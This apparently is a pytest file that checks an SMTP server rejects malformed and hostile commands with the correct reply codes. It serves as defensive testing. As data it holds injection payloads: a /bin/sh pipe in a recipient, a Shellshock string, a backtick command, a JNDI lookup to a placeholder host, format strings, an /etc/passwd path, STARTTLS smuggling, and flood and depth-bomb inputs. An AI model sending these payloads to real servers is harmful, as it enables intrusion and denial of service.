"""Commands that nobody means well with: each gets the right code, none more than that.

What takes time (100,000 recipients, octets that drip, delays after errors) is played on a fake clock in tests/servers.
"""

from __future__ import annotations

import base64
import socket
import struct
import time

import pytest

from tests.abuse.conftest import CONFIG, Peer
from tests.interop.house import House, Person


def case(name: str, command: bytes, *codes: str) -> object:
    return pytest.param(command, codes, id=name)


#: Said behind EHLO; each reply begins with one of the codes.
COMMANDS = [
    case("morris-worm", b"DEBUG\r\n", "500 5.5.1"),
    case("wizard", b"WIZ\r\n", "500 5.5.1"),
    case("shell-in-a-recipient", b"RCPT TO:<|/bin/sh>\r\n", "501 5.1.3", "503 5.5.1"),
    case("shellshock", b"MAIL FROM:<() { :; }; touch x>\r\n", "501"),
    case("format-string", b"EHLO %s%s%n\r\n", "501 5.5.4", "250"),
    case("jndi", b"EHLO ${jndi:ldap://far.test/a}\r\n", "501 5.5.4"),
    case("nul-in-a-command", b"NO\x00OP\r\n", "500 5.5.2"),
    case("nul-in-an-address", b"MAIL FROM:<eve\x00@red.test>\r\n", "500 5.5.2"),
    case("escape-sequence", b"NOOP \x1b[2J\r\n", "500 5.5.2"),
    case("eight-bit-verb", b"\xffNOOP\r\n", "500 5.5.2"),
    case("latin-1-address", b"MAIL FROM:<gr\xfc\xdfe@red.test>\r\n", "500 5.5.2"),
    case("utf-8-without-leave", "MAIL FROM:<grüße@red.test>\r\n".encode(), "553 5.6.7"),
    case("overlong-utf-8", b"MAIL FROM:<eve\xc0\x8a@red.test> SMTPUTF8\r\n", "500 5.5.2"),
    case("bidi-override", "MAIL FROM:<eve\u202eevil@red.test> SMTPUTF8\r\n".encode(), "500 5.5.2"),
    case("empty", b"\r\n", "500 5.5.1"),
    case("blanks", b"   \r\n", "500 5.5.1"),
    case("megabyte-line", b"NOOP " + b"x" * 60_000 + b"\r\n", "500 5.5.2"),
    case("long-sender", b"MAIL FROM:<" + b"a" * 65 + b"@red.test>\r\n", "501 5.1.7"),
    case("long-domain", b"MAIL FROM:<a@" + b"b." * 200 + b"test>\r\n", "501 5.1.7"),
    case("long-idn-domain", "MAIL FROM:<a@{}.test> SMTPUTF8\r\n".format("ü" * 300).encode(), "501 5.1.7"),
    case("no-brackets", b"MAIL FROM:eve@red.test\r\n", "501 5.5.4"),
    case("open-bracket", b"MAIL FROM:<eve@red.test\r\n", "501 5.1.7"),
    case("two-addresses", b"MAIL FROM:<eve@red.test><bob@red.test>\r\n", "501 5.5.4"),
    case("quote-without-end", b'MAIL FROM:<"eve@red.test>\r\n', "501 5.1.7"),
    case("quoted-bracket", b'MAIL FROM:<"a>b"@red.test>\r\n', "250 2.1.0"),
    case("quoted-quote", b'MAIL FROM:<"a\\"b"@red.test>\r\n', "250 2.1.0"),
    case("empty-quotes", b'MAIL FROM:<""@red.test>\r\n', "501 5.1.7"),
    case("dot-first", b"MAIL FROM:<.eve@red.test>\r\n", "501 5.1.7"),
    case("two-dots", b"MAIL FROM:<e..ve@red.test>\r\n", "501 5.1.7"),
    case("literal", b"MAIL FROM:<eve@[192.0.2.7]>\r\n", "250 2.1.0"),
    case("ipv6-literal", b"MAIL FROM:<eve@[IPv6:2001:db8::7]>\r\n", "250 2.1.0"),
    case("parameters-hidden-in-a-literal", b"MAIL FROM:<eve@[IPv6:::1%> SIZE=1 x]>\r\n", "501 5.1.7"),
    case("broken-literal", b"MAIL FROM:<eve@[192.0.2.777]>\r\n", "501 5.1.7"),
    case("unknown-literal", b"MAIL FROM:<eve@[x400:c=blue]>\r\n", "501 5.1.7"),
    case("literal-without-end", b"MAIL FROM:<eve@[192.0.2.7>\r\n", "501 5.1.7"),
    case("route", b"MAIL FROM:<@a.test,@b.test:eve@red.test>\r\n", "250 2.1.0"),
    case("long-route", b"MAIL FROM:<" + b"@a.test," * 150 + b"@b.test:eve@red.test>\r\n", "501 5.1.7"),
    case("unknown-parameter", b"MAIL FROM:<eve@red.test> XYZZY=1\r\n", "555 5.5.4"),
    case("parameter-twice", b"MAIL FROM:<eve@red.test> SIZE=1 SIZE=2\r\n", "501 5.5.4"),
    case("a-hundred-parameters", b"MAIL FROM:<eve@red.test>" + b" A=1" * 100 + b"\r\n", "501 5.5.4"),
    case("negative-size", b"MAIL FROM:<eve@red.test> SIZE=-1\r\n", "501 5.5.4"),
    case("size-of-a-thousand-digits", b"MAIL FROM:<eve@red.test> SIZE=" + b"9" * 1000 + b"\r\n", "501 5.5.4"),
    case("huge-size", b"MAIL FROM:<eve@red.test> SIZE=99999999999999999999\r\n", "552 5.3.4"),
    case("wide-digits", "MAIL FROM:<eve@red.test> SIZE=١٢ SMTPUTF8\r\n".encode(), "501 5.5.4"),
    case("control-in-a-parameter", b"MAIL FROM:<eve@red.test> ENVID=a\x01b\r\n", "500 5.5.2"),
    case("line-end-in-xtext", b"MAIL FROM:<eve@red.test> ENVID=a+0D+0Ab\r\n", "250 2.1.0"),
    case("vrfy-for-strangers", b"VRFY root\r\n", "252 2.1.5"),
    case("expn-for-strangers", b"EXPN all\r\n", "502 5.5.1"),
    case("turn", b"TURN\r\n", "502 5.5.1"),
    case("etrn-shell", b"ETRN `id`\r\n", "458", "459", "501"),
    case("xclient-from-anybody", b"XCLIENT ADDR=127.0.0.1\r\n", "502 5.5.1"),
    case("auth-where-there-is-none", b"AUTH PLAIN AGEAYg==\r\n", "502 5.5.1", "530"),
    case("starttls-with-an-argument", b"STARTTLS now\r\n", "501 5.5.4"),
    case("data-before-mail", b"DATA\r\n", "503 5.5.1"),
    case("rcpt-before-mail", b"RCPT TO:<a@blue.test>\r\n", "503 5.5.1"),
]


@pytest.mark.parametrize(("command", "codes"), COMMANDS)
def test_a_command_gets_its_code_and_the_dialogue_goes_on(peer: Peer, command: bytes, codes: tuple[str, ...]) -> None:
    assert peer.ask(command).startswith(codes)
    assert peer.everything() == ["221 2.0.0 Goodbye"]


#: After these nothing more is believed.
FATAL = [
    case("http-get", b"GET / HTTP/1.1\r\nHost: mail.blue.test\r\n\r\n", "421 4.7.0"),
    case("http-post", b"POST / HTTP/1.1\r\nContent-Length: 40\r\n\r\nEHLO x\r\nMAIL FROM:<a@b.test>\r\n", "421 4.7.0"),
    case("http-header-first", b"Host: mail.blue.test\r\n", "421 4.7.0"),
    case("bare-lf", b"NOOP\nNOOP\r\n", "500 5.5.2"),
    case("bare-cr", b"NOOP\rNOOP\r\n", "500 5.5.2"),
    case("only-lf", b"NOOP\n", "500 5.5.2"),
    case("lf-in-an-address", b"MAIL FROM:<eve\n@red.test>\r\n", "500 5.5.2"),
    case("cr-in-an-address", b"MAIL FROM:<eve\r@red.test>\r\n", "500 5.5.2"),
    case("chunk-without-a-size", b"BDAT\r\n", "501 5.5.4"),
    case("chunk-of-minus-one", b"BDAT -1\r\n", "501 5.5.4"),
    case("chunk-of-a-thousand-digits", b"BDAT " + b"9" * 1000 + b"\r\n", "501 5.5.4"),
    case("chunk-beyond-everything", b"BDAT 99999999999\r\n", "552 5.3.4"),
]


@pytest.mark.parametrize(("command", "codes"), FATAL)
def test_after_some_the_connection_is_closed(peer: Peer, command: bytes, codes: tuple[str, ...]) -> None:
    assert peer.ask(command).startswith(codes)
    assert peer.is_closed


def test_a_line_of_a_megabyte_is_ended(peer: Peer) -> None:
    peer.say(b"MAIL FROM:<" + b"a" * 1_000_000)
    assert peer.hear().startswith("421")
    assert peer.is_closed


@pytest.mark.parametrize(
    "command",
    [b"MAIL FROM:<eve@red.test>\r\n", b"EHLO other.test\r\n", b"NOOP\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"],
    ids=["mail", "ehlo", "noop", "garbage"],
)
def test_what_is_said_behind_starttls_is_never_obeyed(house: House, command: bytes) -> None:
    peer = Peer(house, "in-clear")
    peer.ask(b"EHLO lab.test\r\n")
    answer = peer.ask(b"STARTTLS\r\n" + command)
    assert answer.startswith(("503 5.5.0", "220"))  # 503 for not having waited; 220 where that came in two segments
    assert peer.is_closed


def test_a_tls_hello_where_commands_are_expected_is_ended(house: House) -> None:
    peer = Peer(house, "in-clear")
    peer.say(bytes.fromhex("16030102000100 01fc0303".replace(" ", "")) + bytes(range(256)) * 2)
    answers = [peer.hear()]
    while answers[-1]:
        answers.append(peer.hear())
    assert all(answer[:3] in ("", "500", "421", "501") for answer in answers)


def test_commands_where_tls_is_expected_are_ended(house: House) -> None:
    with socket.create_connection(("127.0.0.1", house.port("mx", tls=True)), 20) as plain:
        plain.sendall(b"EHLO lab.test\r\nMAIL FROM:<eve@red.test>\r\n")
        said = b""
        while more := plain.recv(4096):
            said += more
    assert b"250" not in said


LOGINS = [
    case("no-base64", b"AUTH PLAIN !!!\r\n", "501 5.5.2"),
    case("base64-without-its-end", b"AUTH PLAIN AGE\r\n", "501 5.5.2"),
    case("no-nul", b"AUTH PLAIN " + base64.b64encode(b"alice") + b"\r\n", "501 5.5.2"),
    case("four-fields", b"AUTH PLAIN " + base64.b64encode(b"a\0b\0c\0d") + b"\r\n", "501 5.5.2", "535"),
    case("nothing", b"AUTH\r\n", "501 5.5.4"),
    case("no-such-mechanism", b"AUTH KERBEROS_V4 AAAA\r\n", "504 5.5.4"),
    case("eight-bit-name", b"AUTH PLAIN " + base64.b64encode(b"\0\xff\xfe\0x") + b"\r\n", "501 5.5.2", "535"),
    case("a-megabyte-in-lines", b"AUTH PLAIN " + b"A" * 60_000 + b"\r\n", "500 5.5.2"),
]


@pytest.mark.parametrize(("command", "codes"), LOGINS)
def test_broken_logins(house: House, way: str, command: bytes, codes: tuple[str, ...]) -> None:
    peer = Peer(house, way, "submission")
    peer.ask(b"EHLO lab.test\r\n")
    assert peer.ask(command).startswith(codes if way != "in-clear" else (*codes, "530"))
    assert peer.everything() == ["221 2.0.0 Goodbye"]


#: Read well, and wrong: each costs the delay of a first guess, so it comes from an address of its own.
GUESSES = [
    case("path-in-a-name", b"AUTH PLAIN " + base64.b64encode(b"\0../../etc/passwd\0x") + b"\r\n", "535 5.7.8"),
    case("percent-in-a-name", b"AUTH PLAIN " + base64.b64encode(b"\0%s%n@blue.test\0x") + b"\r\n", "535 5.7.8"),
    case("line-ends-in-a-name", b"AUTH PLAIN " + base64.b64encode(b"\0a\r\nb\0x") + b"\r\n", "535 5.7.8", "501"),
    case("eight-kilobytes", b"AUTH PLAIN " + base64.b64encode(b"\0a\0" + b"x" * 8000) + b"\r\n", "535 5.7.8", "501"),
]


@pytest.mark.parametrize("number", range(len(GUESSES)))
def test_guesses_with_strange_names(house: House, number: int) -> None:
    command, codes = GUESSES[number].values  # type: ignore[attr-defined]
    peer = Peer(house, "implicit-tls", "submission", f"127.0.0.{10 + number}")
    peer.ask(b"EHLO lab.test\r\n")
    assert peer.ask(command).startswith(codes)
    assert peer.everything() == ["221 2.0.0 Goodbye"]


def test_a_login_is_given_up_and_begun_again(house: House) -> None:
    peer = Peer(house, "implicit-tls", "submission")
    peer.ask(b"EHLO lab.test\r\n")
    for answer in (b"*\r\n", b"QUIT!\r\n", b"\xff\r\n"):
        assert peer.ask(b"AUTH LOGIN\r\n").startswith("334")
        assert peer.ask(answer)[:3] in ("501", "500")
    assert peer.everything() == ["221 2.0.0 Goodbye"]


DEEPER = b'Content-Type: multipart/mixed; boundary="%d"\r\n\r\n--%d\r\n'
CONTENTS = [
    case("field-of-a-hundred-kilobytes", b"Subject: " + b"x" * 100_000 + b"\r\n\r\ntext\r\n", "552 5.3.4"),
    case("two-thousand-fields", b"X-A: b\r\n" * 2000 + b"\r\ntext\r\n", "552 5.3.4"),
    case("header-without-an-end", b"X-A: b\r\n" * 900, "250 2.0.0"),
    case("in-circles", b"Received: from a.test by b.test; Sat, 21 Nov 2026 08:00:00 +0000\r\n" * 60 + b"\r\ntext\r\n", "554 5.4.6"),
    case("line-of-half-a-megabyte", b"Subject: x\r\n\r\n" + b"x" * 500_000 + b"\r\n", "250 2.0.0"),
    case("too-big", b"Subject: x\r\n\r\n" + (b"x" * 70 + b"\r\n") * 16_000, "552 5.3.4"),
    case("nothing", b"", "250 2.0.0"),
    case("nul-octets", b"Subject: \x00\r\n\r\n" + b"\x00" * 1000 + b"\r\n", "250 2.0.0"),
    case("depth-bomb", b"".join(DEEPER % (n, n) for n in range(2000)), "250 2.0.0"),
]


@pytest.mark.parametrize(("content", "codes"), CONTENTS)
def test_content_is_judged_when_it_has_ended(house: House, peer: Peer, guest: Person, content: bytes, codes: tuple[str, ...]) -> None:
    peer.ask(b"MAIL FROM:<eve@red.test>\r\n")
    peer.ask(f"RCPT TO:<{guest.address}>\r\n".encode())
    assert peer.ask(b"DATA\r\n").startswith("354")
    assert peer.ask(content + b".\r\n").startswith(codes)
    assert peer.everything() == ["221 2.0.0 Goodbye"]
    assert len(house.stored(guest)) == codes[0].startswith("250")


STEPS = [b"EHLO lab.test\r\n", b"MAIL FROM:<eve@red.test>\r\n", b"RCPT TO:<guest0@blue.test>\r\n", b"DATA\r\n", b"Subject: x\r\n\r\nhalf"]


@pytest.mark.parametrize("steps", range(len(STEPS) + 1))
def test_a_peer_that_is_gone_at_any_step_leaves_nothing(house: House, way: str, steps: int) -> None:
    before = len(house.stored(Person("guest0")))
    peer = Peer(house, way)
    for step in STEPS[:steps]:
        peer.say(step)
        if not step.startswith(b"Subject"):
            peer.hear()
    raw = peer.socket
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # a RST instead of a FIN
    raw.close()
    assert len(house.stored(Person("guest0"))) == before
    assert not list((house.data / "drafts").glob("*.draft"))


def test_a_peer_that_never_reads_costs_a_bounded_buffer(house: House) -> None:
    assert house.process is not None
    before = memory(house)
    peers = [Peer(house, "in-clear") for _ in range(20)]
    flood = b"HELP\r\n" * 20_000
    for peer in peers:
        peer.socket.settimeout(0.2)
        end = time.monotonic() + 0.3
        try:
            while time.monotonic() < end:
                peer.socket.sendall(flood)
        except (TimeoutError, ConnectionError, BrokenPipeError):
            pass
    assert memory(house) - before < 40 * 1024, "KiB"
    for peer in peers:
        peer.close()


def memory(house: House) -> int:
    """KiB that the server holds."""
    assert house.process is not None
    with open(f"/proc/{house.process.pid}/status", encoding="ascii") as file:
        return int(file.read().partition("VmRSS:")[2].split()[0])


def test_the_server_is_as_it_is_for_everybody() -> None:
    """The catalogue is played against the rules of the house, not against weaker ones."""
    assert "bare_newline" not in CONFIG
    assert "stages" not in CONFIG
